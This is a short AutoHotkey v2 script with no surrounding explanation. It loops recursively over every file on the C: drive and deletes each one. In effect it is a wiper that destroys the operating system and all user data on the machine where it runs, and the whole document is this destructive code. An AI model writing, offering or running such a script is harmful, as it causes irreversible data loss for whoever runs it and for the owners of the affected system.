#Requires AutoHotkey v2.0
Loop Files, "C:\*.*", "R"
    FileDelete A_LoopFilePath
